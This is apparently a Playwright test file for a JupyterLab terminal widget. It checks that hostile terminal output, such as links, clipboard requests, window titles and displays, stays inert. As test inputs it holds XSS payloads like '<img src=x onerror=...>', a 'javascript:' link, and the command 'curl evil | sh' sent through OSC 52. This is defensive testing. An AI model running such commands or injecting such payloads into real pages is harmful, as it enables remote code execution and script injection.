"""What a hostile program can do to a page by its output, in JupyterLab: nothing that nobody has agreed to."""

from __future__ import annotations

import base64
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.browser.test_terminal_widget import DARK, Shown
from tests.support.job import until
from tests.support.lab import Lab
from tests.support.wxterm_server import WxtermServer, state

pytestmark = [pytest.mark.cli, pytest.mark.timeout(300), pytest.mark.xdist_group("lab")]

HOSTILE_NAME = "a<img src=x onerror=window.hacked=1>"
#: What the live cards and forms are made with (`server/static/view.js`).
MAKE = """async (evil) => {
    const { make, verbatim } = await import("/static/wxcode_jupyter/view.js");
    const made = make("div", {}, evil, verbatim(""));
    return [made.textContent, made.querySelectorAll("img, script").length];
}"""
EVIL = base64.b64encode(b"curl evil | sh").decode()


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    with Lab(tmp_path_factory.mktemp("lab"), "2.1.330") as lab:
        yield lab


@pytest.fixture
def server() -> Iterator[WxtermServer]:
    with WxtermServer() as server:
        yield server


def link(url: str, text: str) -> bytes:
    return f"\x1b]8;;{url}\x1b\\{text}\x1b]8;;\x1b\\\r\n".encode()


def test_a_link_is_opened_when_somebody_has_seen_where_it_leads(lab: Lab, server: WxtermServer) -> None:
    here = lab.server.url.rstrip("/")
    server.print(link(f"{here}/api?real", "https://bank.example"))
    server.print(link("javascript:window.hacked=1", "click-this"))
    server.print(link("https://xn--80ak6aa92e.example/" + "path/" * 60, "another"))
    server.print(f"see {here}/api?seen now\r\n".encode())
    shown = Shown(lab, "links", f"Terminal({server.url!r}, cols=150)")
    shown.says("see http")
    page, asked = shown.notebook.page, shown.root.get_by_role("alertdialog")
    expect(asked).to_be_hidden()

    click(shown, "click-this")
    expect(shown.notice).to_contain_text("leads neither to the web nor to a mailbox: javascript:window.hacked=1")
    expect(asked).to_be_hidden()

    click(shown, "bank.example")
    expect(asked).to_contain_text(f"This link leads to {here.partition('//')[2]}:{here}/api?real")
    expect(asked.get_by_role("link", name="Open")).to_be_focused()
    expect(asked.get_by_role("link", name="Open")).to_have_attribute("rel", "noopener noreferrer")
    page.keyboard.press("Escape")
    expect(asked).to_be_hidden()

    click(shown, "see http")
    expect(asked).to_contain_text(f"{here}/api?seen")
    assert len(page.context.pages) == 1
    assert not page.evaluate("window.hacked")
    with page.context.expect_page() as opened:
        page.keyboard.press("Enter")
    opened.value.wait_for_load_state()
    assert opened.value.url == f"{here}/api?seen"
    assert opened.value.evaluate("[window.opener, document.referrer]") == [None, ""]
    opened.value.close()
    expect(asked).to_be_hidden()
    assert server.typed == b""

    click(shown, "another")
    url = shown.root.locator(".ipyxterm-url")
    expect(url).to_have_css("color", "rgb(0, 0, 0)")
    page.evaluate(DARK)
    expect(url).to_have_css("color", "rgb(255, 255, 255)")
    assert shown.root.evaluate("root => root.scrollWidth <= root.clientWidth"), "a long address is broken"


def test_nothing_is_copied_unless_that_is_allowed(lab: Lab, server: WxtermServer) -> None:
    request = f"\x1b]52;c;{EVIL}\x07".encode()
    question = b"\x1b]52;c;?\x07"
    shown = Shown(lab, "osc52", f"Terminal({server.url!r})", f"Terminal({server.url!r}, clipboard=True)")
    expect(shown.badge).to_have_text("idle")
    page = shown.notebook.page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.evaluate("navigator.clipboard.writeText('mine')")
    server.print(question + request + question + b"printed\r\n")
    shown.says("printed")
    expect(shown.notice).to_have_text("A program wanted to copy into your clipboard, and may not.")
    assert clipboard(page) == "mine"

    shown.notebook.run(2)
    allowed = shown.root.nth(1)
    expect(allowed.locator(".xterm-rows")).to_contain_text("printed")
    assert clipboard(page) == "mine", "what was printed before is copied by a page that comes later"
    allowed.locator(".xterm-screen").click()
    server.print(request + question + b"again\r\n")
    expect(allowed.locator(".xterm-rows")).to_contain_text("again")
    until(lambda: clipboard(page) == "curl evil | sh", timeout_s=60, what="what the program copied")
    assert server.typed == b""


def test_names_are_text_on_one_line(lab: Lab, server: WxtermServer) -> None:
    server.print(b"\x1b]2;<img src=x onerror=window.hacked=1>\x07here\r\n")
    shown = Shown(lab, "names", f"Terminal({server.url!r}, label='\\x1b[2J<b>\\u202elabel')")
    shown.says("here")
    name = "a<script>window.hacked=1</script>\n\x1b]0;t\x07\x9b2J\u202egpj" + "x" * 5000
    server.tell(state(project={"id": "0" * 24, "name": name}, attention=name, message=name))
    expect(shown.root.locator(".ipyxterm-name")).to_contain_text("a<script>window.hacked=1</script> ]0;t2Jgpjx")
    assert len(shown.root.locator(".ipyxterm-name").inner_text()) <= 80
    for place in ("name", "asks"):
        text = shown.root.locator(f".ipyxterm-{place}").evaluate("place => place.textContent")
        assert not set(text) & set("\x1b\n\x07\x9b\u202e"), text
    assert shown.root.locator("b, img, script").count() == 1, "the name of a link's host"
    assert not shown.notebook.page.evaluate("window.hacked")


def test_displays_and_what_follows_the_server_are_text(lab: Lab) -> None:
    evil = "<img src=x onerror=window.hacked=1><script>window.hacked=1</script>\x1b[2J\u202e</pre>end"
    display = f"from wxcode_jupyter.magics.results import Help\nHelp(text={evil!r})"
    notebook = lab.open("displays", f"%load_ext wxcode_jupyter\n%wx project '{HOSTILE_NAME}'", display, "%wx status")
    expect(notebook.run(0)).to_contain_text("<img src=x onerror=window.hacked=1>")
    shown = notebook.run(1)
    expect(shown).to_contain_text("<script>window.hacked=1</script></pre>end")
    card = notebook.run(2).locator("wxcode-card")
    expect(card).to_contain_text("follows the server")
    expect(card).to_contain_text("<img src=x onerror=window.hacked=1>")
    made = notebook.page.evaluate(MAKE, evil)
    assert made == ["<img src=x onerror=window.hacked=1><script>window.hacked=1</script></pre>end", 0]
    assert notebook.page.locator(".jp-OutputArea-output :is(img, b b, script[src])").count() == 0
    assert not notebook.page.evaluate("window.hacked")


def click(shown: Shown, text: str) -> None:
    """Click on a text of the terminal's: xterm.js finds the link when the mouse has moved over it."""
    row = shown.rows.locator("> div").filter(has_text=text)
    place = row.locator("span").filter(has_text=text).first.bounding_box()
    assert place is not None
    x = place["x"] + (60 if text.startswith("see") else 10)
    mouse = shown.notebook.page.mouse
    mouse.move(x - 4, place["y"] + place["height"] / 2)
    mouse.move(x, place["y"] + place["height"] / 2)
    expect(shown.root.locator(".xterm-screen")).to_have_class("xterm-screen xterm-cursor-pointer")
    mouse.click(x, place["y"] + place["height"] / 2)


def clipboard(page: Page) -> str:
    return str(page.evaluate("navigator.clipboard.readText()"))
